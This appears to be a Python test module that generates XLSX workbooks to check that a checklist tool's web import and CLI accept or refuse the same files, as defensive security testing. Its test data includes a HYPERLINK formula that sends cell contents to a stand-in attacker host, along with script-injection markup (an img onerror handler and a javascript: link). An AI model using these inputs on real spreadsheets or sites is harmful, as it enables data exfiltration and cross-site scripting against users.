"""The shared corpus's workbooks: filled-in checklist workbooks that the site's Import and ``ambit
progress from-xlsx --checklist <id>`` must both take or both refuse (the security review's F-15:
the CLI kept a formula's source text as a note, which the page refused, and the page took a
workbook without Ambit's keywords when its title matched, which the CLI refused).

The rules both readers follow, each a case here:

- A formula in a column Ambit reads (ID, Status, Owner, Due date, Notes) is refused at its cell:
  never evaluated, never taken as its cached value, never carried into progress. Text that merely
  starts with ``=`` (Excel and LibreOffice store ``'=x`` as the text ``=x``) is text, and so is
  ``'=x`` as Ambit's own exports write it. Columns Ambit does not read may hold anything.
- A workbook says which checklist and catalogue version it holds in its keywords
  (``ambit-checklist:<id> ambit-catalogue:<version>``, or the list LibreOffice saves back); without
  them it is refused, whatever its title. Another checklist is refused; another catalogue version
  is refused by the page (progress is kept per version) and converted by the CLI with a note
  saying to run ``ambit progress merge`` (``Case.cli_note``): neither takes it as this version's.
- The same caps (cells, cells in a row, rows, parts, size), dates (a date cell, a day serial from 1
  to 9999-12-31, or YYYY-MM-DD text of a real day), statuses (label or id, any case and spacing),
  IDs (on the checklist, once) and lengths.

Every workbook is written here with XlsxWriter, with fixed properties and zip dates, so the same
arguments give the same bytes; the caps' workbooks get their oversized sheet XML put in afterwards.
"""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import dataclass
from datetime import datetime
from typing import Any

import xlsxwriter

from tests.progress.corpus import Case

HEADER = ("ID", "Title", "Status", "Owner", "Due date", "Notes")
CREATED = datetime(2026, 1, 15)
ABSENT = "PPL-9999"
"""A control ID of the right form that no checklist holds."""


@dataclass(frozen=True)
class Formula:
    """A formula cell, written with a cached value as Excel would."""

    text: str
    value: Any = 0


@dataclass(frozen=True)
class Dated:
    """A number written with a date format: what a spreadsheet stores for a typed date."""

    serial: float


@dataclass(frozen=True)
class Props:
    """The workbook's properties: ``keywords`` name its checklist and catalogue version."""

    title: str
    keywords: str
    subject: str = ""


Row = dict[str, Any]


def workbook(
    props: Props, rows: list[Row], *, header: tuple[str, ...] = HEADER, above: int = 0, summary: bool = False
) -> bytes:
    """A workbook with a ``Checklist`` sheet of ``header`` and ``rows`` ({heading: value}, any case).

    A value is text (written as text even when it starts with "="), a number, a :class:`Dated`
    or a :class:`Formula`; ``above`` puts that many lines of text above the header row, and
    ``summary`` adds a second sheet Ambit does not read.
    """
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(
        buffer, {"in_memory": True, "strings_to_formulas": False, "strings_to_numbers": False, "strings_to_urls": False}
    )
    book.set_properties(
        {"title": props.title, "subject": props.subject, "keywords": props.keywords, "created": CREATED}
    )
    dated = book.add_format({"num_format": "yyyy-mm-dd"})
    sheet = book.add_worksheet("Checklist")
    for line in range(above):
        sheet.write_string(line, 0, f"Our copy of the checklist, line {line + 1}")
    for column, heading in enumerate(header):
        sheet.write_string(above, column, heading)
    headings = [h.lower() for h in header]
    for number, row in enumerate(rows, start=above + 1):
        for heading, value in row.items():
            if heading.lower() not in headings:
                continue
            column = header.index(heading) if heading in header else headings.index(heading.lower())
            if isinstance(value, Formula):
                sheet.write_formula(number, column, value.text, None, value.value)
            elif isinstance(value, Dated):
                sheet.write_number(number, column, value.serial, dated)
            elif isinstance(value, (int, float)):
                sheet.write_number(number, column, value)
            else:
                sheet.write_string(number, column, value)
    if summary:
        book.add_worksheet("Summary").write_string(0, 0, "Ambit does not read this sheet")
    book.close()
    return buffer.getvalue()


def with_rows(data: bytes, part: str, rows_xml: str) -> bytes:
    """``data`` with ``rows_xml`` added at the end of the sheet data of ``part``; fixed zip dates."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            content = source.read(name)
            if name == part:
                text = content.decode()
                text = re.sub(r"<dimension [^>]*/>", "", text)  # it would state the old extent
                content = (
                    text.replace("</sheetData>", rows_xml + "</sheetData>")
                    .replace("<sheetData/>", "<sheetData>" + rows_xml + "</sheetData>")
                    .encode()
                )
            target.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _title_rows(first: int, last: int) -> str:
    """Rows ``first`` to ``last`` with text only under Title, a column Ambit does not read."""
    return "".join(
        f'<row r="{r}"><c r="B{r}" t="inlineStr"><is><t>x</t></is></c></row>' for r in range(first, last + 1)
    )


PAGE_SAYS = {
    "formula": "cell holds a formula; Ambit reads typed values only",
    "not-ambit-workbook": "does not say which Ambit checklist and catalogue version it holds (a title is not enough)",
    "other-checklist": "the workbook is the checklist",
    "not-xlsx": "not an XLSX workbook",
    "bad-date": "is not a date",
    "unknown-status": "is not a status",
    "unknown-control": "is not on this checklist",
    "duplicate-id": "is also on row",
    "bad-id": "has answers but no control ID",
    "too-long": "characters; at most",
    "missing-column": "has no header row with the columns",
    "too-many-rows": "more than 10,000 rows",
    "too-many-cells": "cells, more than Ambit reads",
    "too-large": "bytes; at most",
}
"""What the page says where ``ambit progress from-xlsx`` reports each error code: the same meaning."""
PAGE_SAYS_OTHER_VERSION = "the workbook is for catalogue 0.0.1"

SHEET = "xl/worksheets/sheet1.xml"
OTHER_SHEET = "xl/worksheets/sheet2.xml"


def xlsx_cases(checklist: str, version: str, title: str, first: str) -> list[Case]:
    """The workbooks for ``checklist`` (titled ``title``) at ``version``; ``first`` is a control on it."""
    ours = Props(title, f"ambit-checklist:{checklist} ambit-catalogue:{version}", f"Ambit catalogue {version}")
    good: Row = {"ID": first, "Status": "Implemented", "Owner": "Ana", "Due date": Dated(46477), "Notes": "ok"}

    def book(*rows: Row, props: Props = ours, **kwargs: Any) -> bytes:
        return workbook(props, list(rows), **kwargs)

    def answer(**cells: Any) -> bytes:
        return book({"ID": first, **cells})

    def formula(heading: str, text: str, value: Any = 0) -> Case:
        data = book({**good, heading: Formula(text, value)})
        return Case(f"xlsx-formula-in-{heading.lower().replace(' ', '-')}", data, False, "formula")

    cells_over = "".join(f'<row r="{r}">' + "<c/>" * 16_000 + "</row>" for r in range(2, 34))  # 512,000 cells
    return [
        Case("xlsx-valid", book(good), True),
        Case("xlsx-blank", book(), True),
        Case(
            "xlsx-keywords-as-libreoffice-saves-them",
            book(good, props=Props(title, ours.keywords.replace(":", " "))),
            True,
        ),
        # Identity: the keywords, never the title.
        Case("xlsx-no-keywords-title-matches", book(good, props=Props(title, "")), False, "not-ambit-workbook"),
        Case(
            "xlsx-keywords-without-version",
            book(good, props=Props(title, f"ambit-checklist:{checklist}")),
            False,
            "not-ambit-workbook",
        ),
        Case("xlsx-non-ambit-workbook", book(good, props=Props("", "")), False, "not-ambit-workbook"),
        Case(
            "xlsx-other-checklist",
            book(good, props=Props(title, f"ambit-checklist:zz-other ambit-catalogue:{version}")),
            False,
            "other-checklist",
        ),
        Case(
            "xlsx-other-version",
            book(good, props=Props(title, f"ambit-checklist:{checklist} ambit-catalogue:0.0.1")),
            False,
            cli_note="the workbook is from catalogue 0.0.1",
        ),
        Case("xlsx-not-a-workbook", _zip({"hello.txt": b"not a workbook"}), False, "not-xlsx"),
        # Formulas: refused in every column Ambit reads, whatever their cached value shows.
        formula("ID", f'="{first}"', first),
        formula("Status", '="Implemented"', "Implemented"),
        formula("Owner", "=1+1", 2),
        formula("Due date", "=TODAY()+30", 46477),
        formula("Notes", '=HYPERLINK("https://evil.example/?"&A1,"ticket")', "ticket"),
        Case("xlsx-formula-in-a-column-not-read", book({**good, "Title": Formula("=1+1", 2)}), True),
        Case("xlsx-text-like-a-formula", answer(Owner="=1+1", Notes='=HYPERLINK("https://evil.example")'), True),
        Case("xlsx-neutralised-text", answer(Owner="'=1+1", Notes="'@SUM(A1)"), True),
        Case("xlsx-markup-as-text", answer(Notes='<img src=x onerror="x()"> [x](javascript:x())'), True),
        # Dates.
        Case("xlsx-due-as-text", answer(**{"Due date": "2027-03-31"}), True),
        Case("xlsx-due-as-a-plain-serial", answer(**{"Due date": 46477}), True),
        Case("xlsx-due-with-a-time", answer(**{"Due date": Dated(46477.75)}), True),
        Case("xlsx-due-impossible", answer(**{"Due date": "2027-02-30"}), False, "bad-date"),
        Case("xlsx-due-day-first", answer(**{"Due date": "31/03/2027"}), False, "bad-date"),
        Case("xlsx-due-minus-5", answer(**{"Due date": -5}), False, "bad-date"),
        Case("xlsx-due-minus-5-as-a-date", answer(**{"Due date": Dated(-5)}), False, "bad-date"),
        Case("xlsx-due-zero", answer(**{"Due date": 0}), False, "bad-date"),
        Case("xlsx-due-past-9999", answer(**{"Due date": Dated(3_000_000)}), False, "bad-date"),
        # Statuses.
        Case("xlsx-status-any-case-and-spacing", answer(Status="  Partially   IMPLEMENTED "), True),
        Case("xlsx-status-as-id", answer(Status="risk-accepted"), True),
        Case("xlsx-status-unknown", answer(Status="done"), False, "unknown-status"),
        Case("xlsx-status-as-number", answer(Status=5), False, "unknown-status"),
        # IDs, lengths, headings.
        Case("xlsx-id-not-on-the-checklist", book({**good, "ID": ABSENT}), False, "unknown-control"),
        Case("xlsx-id-twice", book(good, {"ID": first, "Status": "In progress"}), False, "duplicate-id"),
        Case("xlsx-answer-without-id", book(good, {"Notes": "lost?"}), False, "bad-id"),
        Case("xlsx-owner-of-200", answer(Owner="o" * 200), True),
        Case("xlsx-owner-of-201", answer(Owner="o" * 201), False, "too-long"),
        Case("xlsx-notes-of-5000-emoji", answer(Notes="\U0001f512" * 5000), True),
        Case("xlsx-notes-of-5001", answer(Notes="n" * 5001), False, "too-long"),
        Case("xlsx-no-notes-column", book(good, header=HEADER[:-1]), False, "missing-column"),
        Case("xlsx-headings-in-capitals", book(good, header=tuple(h.upper() for h in HEADER)), True),
        Case("xlsx-header-below-a-title-line", book(good, above=1), True),
        Case("xlsx-header-on-row-11", book(good, above=10), False, "missing-column"),
        Case(
            "xlsx-two-notes-columns-the-first-counts",
            book({**good, "NOTES": "n" * 5001}, header=(*HEADER, "NOTES")),
            True,
        ),
        # Caps: rows, cells in a row, cells in any sheet (read or not), the file's size.
        Case("xlsx-10000-rows", with_rows(book(good), SHEET, _title_rows(3, 10_000)), True),
        Case("xlsx-10001-rows", with_rows(book(good), SHEET, _title_rows(3, 10_001)), False, "too-many-rows"),
        Case(
            "xlsx-one-row-numbered-10001",
            with_rows(book(good), SHEET, _title_rows(10_001, 10_001)),
            False,
            "too-many-rows",
        ),
        Case(
            "xlsx-row-of-16385-cells",
            with_rows(book(good), SHEET, '<row r="3">' + "<c/>" * 16_385 + "</row>"),
            False,
            "too-many-cells",
        ),
        Case("xlsx-512000-cells", with_rows(book(good), SHEET, cells_over), False, "too-many-cells"),
        Case(
            "xlsx-512000-cells-in-a-sheet-not-read",
            with_rows(book(good, summary=True), OTHER_SHEET, cells_over),
            False,
            "too-many-cells",
        ),
        Case("xlsx-over-10-mib", _padded(book(good), 10 * 1024 * 1024 + 1), False, "too-large"),
    ]


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _padded(data: bytes, size: int) -> bytes:
    """``data`` with a stored part of zeros that makes it over ``size`` bytes."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in [*parts.items(), ("xl/media/padding.bin", bytes(size))]:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            target.writestr(info, content, zipfile.ZIP_STORED if name.endswith(".bin") else zipfile.ZIP_DEFLATED)
    return out.getvalue()
